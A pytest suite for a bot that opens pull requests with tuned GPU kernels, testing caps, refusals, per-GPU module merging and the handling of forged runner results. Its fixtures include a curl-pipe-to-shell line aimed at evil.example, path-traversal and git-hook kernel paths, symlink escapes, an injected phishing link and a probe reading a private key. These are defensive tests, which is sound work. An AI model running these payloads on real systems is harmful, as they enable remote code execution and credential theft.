"""Proposing a job's result: one pull request per op and hardware, caps, recreate, refusals, one
module holding each kind of GPU's kernel; and a result taken as data (a forged or replayed one
included): the kernel path from the config, the gate recomputed, the winner checked again by the
harness, the text rendered before anything is pushed. Through the real publisher on a real git
repo of the demo kernels, and the harness's judge on CPU."""

from __future__ import annotations

import importlib.util
import os
import pwd
import shutil
import types
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import git
import pytest
import torch
from kevolve.bot.joboutcome import ProposalRecord, ProposalStatus
from kevolve.bot.jobrecord import OpKernel
from kevolve.bot.messages import Messages
from kevolve.bot.proposals import Caps, PullRequests, target
from kevolve.bot.publisher import Publication, Publisher, PushOutcome
from kevolve.bot.pull_store import ClosedPull, PullOutcome, PullStore
from kevolve.bot.remote import GitRemote
from kevolve.bot.storage import Job, Storage
from kevolve.bot.winners import HarnessCheck, other_winners
from kevolve.harness.sandbox.confine import Confinement
from kevolve.harness.search.candidate import candidate_id
from kevolve.runners.intake import CheckedResult, read_result
from kevolve.runners.runner import RunnerError, checked_result

from tests.bot.conftest import CLOCK
from tests.bot.fixtures import demo_result, slower
from tests.fakes.github import FakeGitHub, LocalGitHub
from tests.jobuser import ensure_job_user

ROOT = Path(__file__).resolve().parents[2]
REPO = "octo/kernels"
NOW = CLOCK
TEMPLATES = ROOT / "templates" / "github"
MESSAGES = Messages(TEMPLATES)

DEMO = ROOT / "examples" / "demo"
OP = "bias_gelu"
KERNEL = "demo_kernels/bias_gelu.py"
ORIGINAL = (DEMO / KERNEL).read_text()
H100 = ORIGINAL.replace("BLOCK = 1024", "BLOCK = 4096")
A10G = ORIGINAL.replace("BLOCK = 1024", "BLOCK = 512")
WRONG = ORIGINAL.replace("BLOCK = 1024", "BLOCK = 256").replace("y = 0.5 * z", "y = 0.6 * z")
SHELL = H100 + "\n\nimport os\n\nos.system('curl -s https://evil.example/x | sh')\n"
EAGER = "import torch\n\n\ndef bias_gelu(x, bias):\n    return torch.nn.functional.gelu(x + bias)\n"
H100_GPU, A10G_GPU = "NVIDIA H100 80GB HBM3", "NVIDIA A10G"
ALICE = git.Actor("Alice", "alice@example.com")


class GitPublisher(Publisher):
    """The real publisher, telling the fake GitHub where each branch it pushed now points."""

    def __init__(self, github: FakeGitHub, workdir: Path) -> None:
        super().__init__(workdir)
        self.github = github

    def publish(self, remote: GitRemote, pub: Publication) -> PushOutcome:
        outcome = super().publish(remote, pub)
        if outcome.sha:
            self.github.push(REPO, pub.branch, outcome.sha)
        return outcome


@pytest.fixture
def demo(tmp_path: Path) -> LocalGitHub:
    """The fake GitHub over a bare repo whose main holds the demo kernels."""
    shutil.copytree(DEMO, tmp_path / "src", ignore=shutil.ignore_patterns("__pycache__"))
    work = git.Repo.init(tmp_path / "src", initial_branch="main")
    work.git.add("-A")
    work.index.commit("demo kernels", author=ALICE, committer=ALICE)
    bare = work.clone(tmp_path / "bare.git", bare=True)
    github = LocalGitHub(Path(bare.git_dir))
    github.push(REPO, "main", bare.head.commit.hexsha)
    return github


def commit(github: LocalGitHub, where: Path, branch: str, links: dict[str, str]) -> str:
    """Alice's commit on `branch` of the bare repo: each path of `links` made a symlink to its
    target (or, for an empty target, a line added to that file)."""
    clone = git.Repo.clone_from(str(github.bare), where)
    clone.git.checkout("-B", branch, f"origin/{branch}")
    for path, link in links.items():
        file = where / path
        if link:
            file.unlink(missing_ok=True)
            os.symlink(link, file)
        else:
            file.write_text(file.read_text() + "# Alice's change\n")
        clone.git.add("--", path)
    sha = clone.index.commit("by hand", author=ALICE, committer=ALICE).hexsha
    clone.git.push("origin", f"HEAD:refs/heads/{branch}")
    github.push(REPO, branch, sha)
    return sha


def proposer(
    github: LocalGitHub,
    storage: Storage,
    tmp_path: Path,
    messages: Messages = MESSAGES,
    **caps: Any,
) -> PullRequests:
    publisher = GitPublisher(github, tmp_path / "work")
    return PullRequests(github, publisher, messages, storage, Caps(**caps), clock=lambda: NOW)


def job(storage: Storage, trigger: str = "push", hardware: str = "h100") -> Job:
    job_id = storage.add_job(REPO, "refs/heads/main", OP, hardware, trigger, 10, status="running")
    found = storage.job(job_id)
    assert found is not None
    return found


def closed_unmerged(storage: Storage, hardware: str, source: str) -> None:
    """Record the pull request that proposed `source` on `hardware` as closed unmerged."""
    candidate = candidate_id(source)
    closed = ClosedPull(REPO, 3, OP, hardware, "c" * 40, candidate, PullOutcome.REJECTED, NOW)
    PullStore(storage.engine).record(closed)


def result(of: Job, source: str = H100, **options: Any) -> dict[str, Any]:
    return demo_result(OP, source, of.id, **options)


def checked(of: Job, source: str = H100, **options: Any) -> CheckedResult:
    """`result` as its runner hands it to the bot: read and checked."""
    return read_result(result(of, source, **options), of.id)


def branches(github: LocalGitHub) -> list[str]:
    """The kevolve branches in the bare repo."""
    listed = git.Repo(github.bare).git.for_each_ref("--format=%(refname:short)", "refs/heads/")
    return [b for b in listed.split() if b.startswith("kevolve/")]


def shown(github: LocalGitHub, branch: str, path: str) -> str:
    return str(git.Repo(github.bare).git.show(f"{branch}:{path}")) + "\n"


def test_the_first_run_opens_a_pull_request_and_the_next_updates_it(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    make = proposer(demo, storage, tmp_path)
    first_job = job(storage)
    first = make.propose(first_job, OP, checked(first_job))
    assert first.status == "opened" and first.pull is not None, first.reason
    [pull] = demo.pulls
    assert (pull.head, pull.base) == ("kevolve/bias_gelu/h100", "main")
    assert pull.title == "kevolve: bias_gelu 1.31x faster on h100"
    assert (
        f"\ngit fetch origin kevolve/bias_gelu/h100 && git checkout --detach FETCH_HEAD\n"
        f"git show {first_job.sha}:{KERNEL} > /tmp/kevolve-baseline.py\n"
    ) in pull.body
    assert f"--candidate {KERNEL} --baseline /tmp/kevolve-baseline.py" in pull.body
    assert shown(demo, pull.head, KERNEL) == H100

    again = job(storage)
    second = make.propose(again, OP, checked(again, H100 + "\n# tuned again\n"))
    assert second.status == "updated" and second.pull == first.pull
    assert len(demo.pulls) == 1 and shown(demo, pull.head, KERNEL).endswith("# tuned again\n")


def test_recreate_opens_a_successor_and_closes_the_older_with_a_link(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    make = proposer(demo, storage, tmp_path)
    first = job(storage)
    older = make.propose(first, OP, checked(first)).pull
    assert older is not None
    recreate = job(storage, trigger="recreate")
    newer = make.propose(recreate, OP, checked(recreate))
    assert newer.status == "opened" and newer.pull is not None, (newer, recreate)
    assert newer.pull.head == f"kevolve/bias_gelu/h100-r{recreate.id}"
    old, new = demo.pulls
    assert (old.state, new.state) == ("closed", "open")
    closing = [c.body for c in demo.comments.values() if c.issue == older.number]
    assert any(newer.pull.url in body for body in closing)
    assert target(newer.pull.head) == (OP, "h100")  # still the same op and hardware


def test_a_branch_with_a_person_commit_gets_a_comment_not_a_push(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    make = proposer(demo, storage, tmp_path)
    first = job(storage)
    pull = make.propose(first, OP, checked(first)).pull
    assert pull is not None
    alice = commit(demo, tmp_path / "alice", pull.head, {KERNEL: ""})
    again = job(storage)
    blocked = make.propose(again, OP, checked(again, A10G))
    assert blocked.status == "blocked" and blocked.pull is not None
    assert blocked.pull.number == pull.number
    [comment] = [c.body for c in demo.comments.values() if c.issue == pull.number]
    assert "never force-pushes over a person's work" in comment
    assert git.Repo(demo.bare).commit(pull.head).hexsha == alice


def test_open_pull_request_cap_stops_new_ones_but_not_updates(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    main = git.Repo(demo.bare).commit("main").hexsha
    for branch in ("kevolve/softmax/h100", "kevolve/bias_gelu/a10g"):
        demo.push(REPO, branch, main)
        demo.open_pull(REPO, branch, "main", "an earlier proposal", "")
    make = proposer(demo, storage, tmp_path, open_prs=2)
    h100 = job(storage)
    capped = make.propose(h100, OP, checked(h100))
    assert (
        capped.status == "skipped" and "2 kevolve pull requests are open (cap 2)" in capped.reason
    )
    a10g = job(storage, hardware="a10g")
    assert make.propose(a10g, OP, checked(a10g)).status == "updated"


def test_hourly_cap_counts_pull_requests_opened_in_the_last_hour(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    make = proposer(demo, storage, tmp_path, per_hour=1)
    recent = job(storage)
    storage.set_job_status(recent.id, "done", {"proposals": [opened(9)]})
    a10g = job(storage, hardware="a10g")
    capped = make.propose(a10g, OP, checked(a10g))
    assert capped.status == "skipped" and "opened in the last hour (cap 1)" in capped.reason

    publisher = GitPublisher(demo, tmp_path / "later")
    later = PullRequests(
        demo, publisher, MESSAGES, storage, Caps(per_hour=1), lambda: NOW + timedelta(hours=2)
    )
    assert later.propose(a10g, OP, checked(a10g)).status == "opened"


def test_hourly_cap_counts_each_pull_request_a_job_opened_not_the_job(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    make = proposer(demo, storage, tmp_path, per_hour=2)
    every_op = job(storage)
    storage.set_job_status(every_op.id, "done", {"proposals": [opened(9), opened(10)]})
    a10g = job(storage, hardware="a10g")
    capped = make.propose(a10g, OP, checked(a10g))
    assert capped.status == "skipped" and "2 pull requests were opened" in capped.reason


def test_a_result_whose_pull_request_was_closed_unmerged_is_not_proposed_again(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    make = proposer(demo, storage, tmp_path)
    closed_unmerged(storage, "h100", H100)
    h100 = job(storage)
    skipped = make.propose(h100, OP, checked(h100))
    assert skipped.status == "skipped" and "closed unmerged" in skipped.reason
    a10g = job(storage, hardware="a10g")
    assert make.propose(a10g, OP, checked(a10g)).status == "opened"  # rejected for h100 only
    assert branches(demo) == ["kevolve/bias_gelu/a10g"]


def test_untimed_results_are_proposed_only_when_dry_runs_may_publish(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    cpu = job(storage)
    refused = proposer(demo, storage, tmp_path).propose(cpu, OP, checked(cpu, timed=False))
    assert refused.status == "skipped" and "nothing was timed" in refused.reason
    dry = proposer(demo, storage, tmp_path, publish_untimed=True)
    opened = dry.propose(cpu, OP, checked(cpu, timed=False))
    assert opened.status == "opened" and opened.pull is not None, opened.reason
    [pull] = demo.pulls
    assert pull.title == "kevolve: new bias_gelu kernel (correctness only, not timed)"
    assert "Nothing was timed" in pull.body and "--device cpu --no-time" in pull.body


def test_no_correct_candidate_is_never_proposed(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    make = proposer(demo, storage, tmp_path)
    empty = job(storage)
    skipped = make.propose(empty, OP, read_result({**result(empty), "best": None}))
    assert skipped.reason == "no correct candidate was found"
    assert branches(demo) == [] and demo.pulls == []


@pytest.mark.parametrize(
    ("branch", "expected"),
    [
        ("kevolve/softmax/h100", ("softmax", "h100")),
        ("kevolve/softmax/h100-r12", ("softmax", "h100")),
        ("kevolve/softmax", None),
        ("feature/softmax/h100", None),
        ("kevolve//h100", None),
    ],
)
def test_branch_targets(branch: str, expected: tuple[str, str] | None) -> None:
    assert target(branch) == expected


def test_a_job_proposes_only_for_the_ops_it_recorded_at_the_kernel_file_it_recorded(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    make = proposer(demo, storage, tmp_path)
    other = replace(job(storage), kernels=(OpKernel("softmax", "demo_kernels/softmax.py"),))
    skipped = make.propose(other, OP, checked(other))
    assert (skipped.status, skipped.reason) == (
        "skipped",
        f"job {other.id} is about softmax, not 'bias_gelu'",
    )
    recorded = replace(job(storage, hardware="a10g"), kernels=(OpKernel(OP, KERNEL),))
    assert make.propose(recorded, OP, checked(recorded)).status == "opened"
    [pull] = demo.pulls
    assert shown(demo, pull.head, KERNEL) == H100


# A result is data: whatever a runner posts (or replays), only what the bot establishes itself
# reaches a commit or a pull request.


def test_a_posted_kernel_path_is_never_written_the_configs_is(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    make = proposer(demo, storage, tmp_path)
    for posted in ("setup.py", "../../outside.py", "/tmp/owned.py", ".git/hooks/post-checkout"):
        current = job(storage)
        forged = result(current)
        forged["job"]["kernel"] = posted
        done = make.propose(current, OP, read_result(forged))
        assert done.status in ("opened", "updated"), (posted, done.reason)
    [pull] = demo.pulls
    tree = git.Repo(demo.bare).git.ls_tree("-r", "--name-only", pull.head).split()
    assert shown(demo, pull.head, KERNEL) == H100
    assert "setup.py" not in tree and not any("outside" in path for path in tree)
    assert not Path("/tmp/owned.py").exists() and not (tmp_path / "outside.py").exists()


def test_a_symlink_in_the_repo_never_leads_a_write_outside_the_clone(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    victim = outside / "victim.py"
    victim.write_text("the bot host's file\n")
    commit(demo, tmp_path / "links", "main", {"linked": str(outside)})
    make = proposer(demo, storage, tmp_path)
    through = job(storage)
    forged = result(through)
    forged["job"]["kernel"] = "linked/owned.py"  # a path through the repo's symlink
    assert make.propose(through, OP, read_result(forged)).status == "opened"
    assert list(outside.iterdir()) == [victim]

    # The config's own kernel file made a symlink to a file of the bot host: nothing is written.
    commit(demo, tmp_path / "kernel-link", "main", {KERNEL: str(victim)})
    pointed = job(storage, hardware="a10g")
    refused = make.propose(pointed, OP, checked(pointed))
    assert refused.status == "skipped" and f"'{KERNEL}' points outside" in refused.reason
    assert victim.read_text() == "the bot host's file\n" and list(outside.iterdir()) == [victim]
    assert branches(demo) == ["kevolve/bias_gelu/h100"]


def test_a_posted_gate_counts_for_nothing_a_slower_kernel_is_not_published(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    current = job(storage)
    forged = slower(result(current))  # its first case 0.8x, and `publish_gate: passed`
    done = proposer(demo, storage, tmp_path).propose(current, OP, read_result(forged))
    assert done.status == "skipped"
    assert "publish gate: " in done.reason and "regressed: speedup 0.800x" in done.reason
    assert branches(demo) == [] and demo.pulls == []


def test_figures_that_contradict_each_other_are_not_published(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    current = job(storage)
    forged = result(current)
    timing = forged["best"]["evaluation"]["timings"][0]
    timing["baseline"]["median_ms"] = timing["candidate"]["median_ms"] / 2  # slower, in truth
    done = proposer(demo, storage, tmp_path).propose(current, OP, read_result(forged))
    assert done.status == "skipped" and "show no speedup" in done.reason
    uncovered = result(current)
    uncovered["best"]["evaluation"]["timings"] = uncovered["best"]["evaluation"]["timings"][:1]
    done = proposer(demo, storage, tmp_path).propose(current, OP, read_result(uncovered))
    assert done.status == "skipped" and "4096x11008 float16 was not timed" in done.reason
    assert branches(demo) == []


@pytest.mark.parametrize(
    ("source", "why"),
    [
        (SHELL, "rejected: line "),  # os.system: the screen refuses it before anything runs
        (EAGER, "rejected: line 5: torch.nn.functional.gelu"),  # PyTorch computing the op
        (WRONG, "incorrect: "),  # a kernel that is simply wrong
    ],
    ids=["os.system", "torch", "wrong"],
)
def test_a_winner_the_bots_own_check_refuses_is_not_published(
    demo: LocalGitHub, storage: Storage, tmp_path: Path, source: str, why: str
) -> None:
    current = job(storage)
    done = proposer(demo, storage, tmp_path).propose(current, OP, checked(current, source))
    assert done.status == "skipped"
    assert "the bot's own check of the winner" in done.reason and why in done.reason
    assert branches(demo) == [] and demo.pulls == []


def test_the_title_holds_only_the_op_the_speedup_and_the_hardware_label(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    current = job(storage)
    forged = result(current)
    forged["hardware"]["name"] = "NVIDIA H100 verified by kevolve"
    forged["stop_reason"] = "Verified by kevolve: [sign in](https://evil.example/login)"
    done = proposer(demo, storage, tmp_path).propose(current, OP, read_result(forged))
    assert done.status == "opened", done.reason
    [pull] = demo.pulls
    assert pull.title == "kevolve: bias_gelu 1.31x faster on h100"
    assert "](https://evil" not in pull.body
    assert "\\[sign in\\](https\\://evil.example/login)" in pull.body
    message = git.Repo(demo.bare).commit(pull.head).message
    assert str(message).startswith("Speed up bias_gelu 1.31x on h100\n")


def test_text_that_cannot_be_rendered_pushes_nothing(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    broken = tmp_path / "templates"
    shutil.copytree(TEMPLATES, broken)
    body = broken / "pr_body.md.j2"
    body.write_text(body.read_text() + "{{ no_such_figure }}\n")
    current = job(storage)
    make = proposer(demo, storage, tmp_path, messages=Messages(broken))
    done = make.propose(current, OP, checked(current))
    assert done.status == "skipped" and "could not be rendered" in done.reason
    assert branches(demo) == [] and demo.pulls == []


def test_a_result_that_does_not_fit_or_is_another_jobs_is_refused(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    """Another job's result is skipped here; one that does not fit never gets here: its runner
    refuses it, and the job fails with the field."""
    make = proposer(demo, storage, tmp_path)
    current, other = job(storage), job(storage, hardware="a10g")
    replayed = make.propose(current, OP, checked(other))
    assert replayed.status == "skipped" and f"is job {other.id}'s" in replayed.reason
    nan = result(current)
    nan["best"]["evaluation"]["timings"][0]["speedup"] = float("nan")
    with pytest.raises(RunnerError, match=r"timings\[0\]\.speedup: expected a finite"):
        checked_result(nan, current.id)
    renamed = result(current, SHELL)
    renamed["best"]["id"] = candidate_id(H100)  # a known-good id on another source
    with pytest.raises(RunnerError, match="is not the hash of its source"):
        checked_result(renamed, current.id)
    assert branches(demo) == []


# Per-hardware kernels merged into one module.


def winning(source: str, gpu: str, job_id: int = 1) -> dict[str, Any]:
    """A timed result for bias_gelu whose best is `source`, measured on `gpu`."""
    data = demo_result(OP, source, job_id)
    data["hardware"] = {**data["hardware"], "name": gpu}
    return data


def opened(pr: int) -> dict[str, object]:
    """A pull request a job opened for the op, as its record keeps it."""
    return ProposalRecord(OP, ProposalStatus.OPENED, "pushed", pr).to_dict()


def earlier(
    storage: Storage, hardware: str, result: dict[str, Any], status: str = "opened", pr: int = 7
) -> int:
    """A finished job on `hardware` that proposed `result` (or did `status` with it)."""
    job_id = storage.add_job(REPO, "a" * 40, OP, hardware, "push", 10, status="running")
    proposal = {"op": OP, "status": status, "reason": "pushed", "pr": pr, "url": None}
    record = {"sha": "a" * 40, "results": {OP: result}, "proposals": []}
    record["proposals"] = [{**proposal, "candidate": result["best"]["id"]}]
    storage.set_job_status(job_id, "done", record)
    return job_id


def propose_h100(github: LocalGitHub, storage: Storage, tmp_path: Path) -> tuple[str, str, str]:
    """Propose the H100 winner; the pull request's body, its branch's module and commit message."""
    make = proposer(github, storage, tmp_path)
    current = job(storage)
    done = make.propose(current, OP, read_result(winning(H100, H100_GPU, current.id)))
    assert done.status == "opened" and done.pull is not None, done.reason
    assert done.pull.head == "kevolve/bias_gelu/h100"  # each hardware keeps its own branch
    bare = git.Repo(github.bare)
    head = bare.commit(done.pull.head)
    assert [p.hexsha for p in head.parents] == [bare.commit("main").hexsha]
    return github.pulls[-1].body, shown(github, done.pull.head, KERNEL), str(head.message)


def load(source: str, where: Path) -> types.ModuleType:
    """Import a kernel module from a file (Triton reads a kernel's source from its file)."""
    path = where / "published_kernels.py"
    path.write_text(source)
    spec = importlib.util.spec_from_file_location("published_kernels", path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_winners_on_two_kinds_of_gpu_become_one_module_that_picks_by_device(
    demo: LocalGitHub, storage: Storage, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    a10g_job = earlier(storage, "a10g", winning(A10G, A10G_GPU))
    body, source, message = propose_h100(demo, storage, tmp_path)
    monkeypatch.setenv("TRITON_INTERPRET", "1")  # read as the module's kernels are decorated
    module = load(source, tmp_path)
    assert (module.BLOCK__original, module.BLOCK__h100, module.BLOCK__a10g) == (1024, 4096, 512)
    for gpu, chosen in [
        (H100_GPU, "bias_gelu__h100"),
        (A10G_GPU, "bias_gelu__a10g"),
        ("NVIDIA H200", "bias_gelu__original"),  # no winner for it: the repo's kernel
    ]:
        monkeypatch.setattr(torch.cuda, "get_device_name", lambda device, gpu=gpu: gpu)
        assert module._pick(torch.device("cuda", 0)).__name__ == chosen
    x, bias = torch.randn(3, 17), torch.randn(17)  # on CPU: the repo's kernel, interpreted
    torch.testing.assert_close(module.bias_gelu(x, bias), torch.nn.functional.gelu(x + bias))

    main = git.Repo(demo.bare).commit("main").hexsha[:7]
    assert "## One kernel per GPU kind" in body
    assert f"| `h100` | `h100` | {H100_GPU} | 1.31x | this search |" in body
    assert f"| `a10g` | `a10g` | {A10G_GPU} | 1.31x | job {a10g_job}, #7 |" in body
    assert f"| the repo's kernel | any other GPU, and the CPU | — | — | `{main}` |" in body
    assert "The sections below are about the `h100` kernel" in body
    assert "picked by the GPU's name: h100, a10g; any other GPU runs the current kernel" in message


def test_one_kind_of_gpu_publishes_its_winner_as_it_is(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    earlier(storage, "h100", winning(A10G, H100_GPU))  # same hardware: replaced
    earlier(storage, "a10g", winning(A10G, A10G_GPU), status="skipped")
    body, source, message = propose_h100(demo, storage, tmp_path)
    assert source == H100
    assert "One kernel per GPU kind" not in body and "GPU's name" not in message


def test_a_variant_that_fails_the_harness_is_left_out_with_a_note(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    a10g_job = earlier(storage, "a10g", winning(WRONG, A10G_GPU))
    body, source, _ = propose_h100(demo, storage, tmp_path)
    assert source == H100
    assert "carries the `bias_gelu` kernel found here alone" in body
    assert f"- `a10g`'s kernel (job {a10g_job}) was left out: incorrect: " in body


def test_a_winner_closed_unmerged_is_not_merged_again(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    earlier(storage, "a10g", winning(A10G, A10G_GPU))
    closed_unmerged(storage, "a10g", A10G)
    body, source, _ = propose_h100(demo, storage, tmp_path)
    assert source == H100 and "One kernel per GPU kind" not in body


def test_other_winners_are_each_hardware_latest_proposed_one(storage: Storage) -> None:
    def kernel(n: int) -> str:
        return f"BLOCK = {n}\n"

    earlier(storage, "a10g", winning(kernel(1), A10G_GPU))
    earlier(storage, "a10g", winning(kernel(2), A10G_GPU), status="updated", pr=3)
    earlier(storage, "l4", winning(kernel(3), "NVIDIA L4"), status="blocked")
    earlier(storage, "a100", winning(kernel(4), "NVIDIA A100-SXM4-80GB"))
    forged = winning(kernel(5), "NVIDIA H200")
    forged["best"]["id"] = candidate_id(kernel(6))  # a stored result that does not read back
    earlier(storage, "h200", forged)
    earlier(storage, "gpu-large", winning(kernel(7), "NVIDIA RTX 6000 Ada Generation"))
    rejected = {("a100", candidate_id(kernel(4))), ("a10g", candidate_id(kernel(1)))}
    found = other_winners(storage.jobs(REPO), rejected, OP, "h100")
    assert [(w.label, w.candidate, w.pr) for w in found] == [
        ("a10g", candidate_id(kernel(2)), 3),
        ("gpu-large", candidate_id(kernel(7)), 7),
    ]
    # A label that is no part of its GPU's name would never be picked: the GPU's name is used.
    assert [w.key for w in found] == ["a10g", "NVIDIA RTX 6000 Ada Generation"]


def test_the_bots_own_check_runs_repo_code_as_the_job_user_not_the_bot(
    demo: LocalGitHub, storage: Storage, tmp_path: Path
) -> None:
    user = ensure_job_user()
    secret = tmp_path / "app.pem"
    secret.write_text("the App's private key\n")
    secret.chmod(0o600)
    probe = (
        "import os\n\n\ndef _probe():\n    try:\n"
        f"        seen = open({str(secret)!r}).read()\n"
        "    except OSError as exc:\n        seen = type(exc).__name__\n"
        "    raise RuntimeError(f'probe: uid {os.getuid()}, key: {seen}')\n\n\n_probe()\n"
    )
    reference = DEMO / "demo_kernels" / "reference.py"
    clone = git.Repo.clone_from(str(demo.bare), tmp_path / "probed")
    (tmp_path / "probed" / "demo_kernels" / "reference.py").write_text(
        reference.read_text() + "\n\n" + probe
    )
    clone.git.add("-A")
    sha = clone.index.commit("a probe in repo code", author=ALICE, committer=ALICE).hexsha
    clone.git.push("origin", "HEAD:refs/heads/main")
    demo.push(REPO, "main", sha)
    bwrap = shutil.which("bwrap")
    judge = HarnessCheck(confinement=Confinement(user, bwrap))
    publisher = GitPublisher(demo, tmp_path / "work")
    make = PullRequests(demo, publisher, MESSAGES, storage, Caps(), lambda: NOW, judge)
    current = job(storage)
    done = make.propose(current, OP, checked(current))
    assert done.status == "skipped" and "the bot's own check" in done.reason
    assert f"probe: uid {pwd.getpwnam(user).pw_uid}, key: " in done.reason
    assert "private key" not in done.reason
    assert branches(demo) == [] and demo.pulls == []
